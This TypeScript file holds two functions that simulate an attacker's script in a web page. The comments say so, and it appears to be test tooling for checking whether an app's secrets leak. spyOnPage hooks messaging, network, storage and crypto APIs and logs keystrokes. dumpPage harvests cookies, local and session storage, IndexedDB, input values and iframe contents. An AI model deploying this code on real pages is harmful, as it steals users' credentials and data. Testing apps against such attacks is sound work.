/**
 * A script of an attacker in the page of an app, before any other: it keeps everything that
 * passes by. Runs in every frame of the page, so it stays out of those of other sites.
 */
export function spyOnPage(host: string): void {
  if (location.host !== host) return
  const loot: string[] = []
  const ports = new Set<MessagePort>()
  Object.assign(window, { loot, ports })
  // As it was before it is tapped.
  const { stringify } = JSON
  const keep = (value: unknown) => {
    try {
      loot.push(typeof value === 'string' ? value : (stringify(value) ?? String(value)))
    } catch {
      loot.push(String(value))
    }
  }
  type Method = (this: unknown, ...args: unknown[]) => unknown
  /** Keeps the arguments and the result of every call. */
  function tap(target: object, name: string): void {
    const original = Reflect.get(target, name) as Method | undefined
    if (typeof original !== 'function') return
    Reflect.set(target, name, function (this: unknown, ...args: unknown[]) {
      for (const arg of args) keep(arg)
      const result = original.apply(this, args)
      if (this instanceof MessagePort) ports.add(this)
      if (result instanceof Promise) result.then(keep, keep)
      else if (typeof result === 'string') keep(result)
      return result
    })
  }
  const heard = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
  Object.defineProperty(MessageEvent.prototype, 'data', {
    get(this: MessageEvent) {
      const data: unknown = heard?.get?.call(this)
      keep(data)
      return data
    },
  })
  addEventListener('message', (event) => keep(event.data))
  for (const name of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'paste', 'pointerdown'])
    addEventListener(name, (event) => keep(`${name} ${(event as KeyboardEvent).key}`), true)
  const targets: [object, string[]][] = [
    [MessagePort.prototype, ['postMessage', 'start']],
    [window, ['postMessage', 'fetch', 'open']],
    [JSON, ['parse', 'stringify']],
    [Storage.prototype, ['setItem', 'getItem']],
    [IDBObjectStore.prototype, ['put', 'add']],
    [Response.prototype, ['text', 'json', 'arrayBuffer']],
    [XMLHttpRequest.prototype, ['open', 'send', 'setRequestHeader']],
    [WebSocket.prototype, ['send']],
    [Navigator.prototype, ['sendBeacon']],
    [BroadcastChannel.prototype, ['postMessage']],
    [crypto.subtle, ['encrypt', 'decrypt', 'sign', 'importKey', 'deriveBits', 'digest']],
    [Element.prototype, ['setAttribute', 'attachShadow']],
  ]
  for (const [target, methods] of targets) for (const name of methods) tap(target, name)
}

/** Runs in the page: all that its scripts reach, besides what they kept on the way. */
export async function dumpPage(): Promise<string[]> {
  const { loot } = window as unknown as { loot: string[] }
  const found: string[] = []
  const seen = new Set<unknown>()
  /** Every text that is reachable from a value. */
  function walk(value: unknown, depth: number): void {
    if (typeof value === 'string') return void found.push(value)
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
      const bytes = value instanceof ArrayBuffer ? new Uint8Array(value) : new Uint8Array(value.buffer)
      return void found.push(Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join(''))
    }
    const isTree = (typeof value === 'object' && value !== null) || typeof value === 'function'
    if (!isTree || seen.has(value) || depth > 14 || seen.size > 200_000) return
    seen.add(value)
    if (value instanceof Map || value instanceof Set)
      for (const [key, member] of value.entries()) {
        walk(key, depth + 1)
        walk(member, depth + 1)
      }
    let keys: PropertyKey[] = []
    try {
      keys = Reflect.ownKeys(value as object)
    } catch {
      return
    }
    for (const key of keys)
      try {
        walk(Reflect.get(value as object, key), depth + 1)
      } catch {
        // Of another origin.
      }
  }
  const done = <Result>(request: IDBRequest<Result>) =>
    new Promise<Result>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
  walk((window as unknown as { latchkeyExample?: unknown }).latchkeyExample, 0)
  walk([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state, window.name], 0)
  walk(
    performance.getEntries().map(({ name }) => name),
    0,
  )
  for (const { name = '' } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name))
    for (const store of database.objectStoreNames)
      walk(await done(database.transaction(store).objectStore(store).getAll()), 0)
  }
  for (const name of await caches.keys()) walk(name, 0)
  const roots: (Document | ShadowRoot)[] = [document]
  for (const root of roots)
    for (const element of root.querySelectorAll('*')) {
      if (element.shadowRoot) roots.push(element.shadowRoot)
      if (element instanceof HTMLInputElement) walk(element.value, 0)
      if (!(element instanceof HTMLIFrameElement)) continue
      walk(element.contentWindow, 0)
      walk(element.contentDocument?.documentElement.outerHTML, 0)
    }
  walk(
    roots.map((root) => root.textContent),
    0,
  )
  return [...loot, ...found]
}
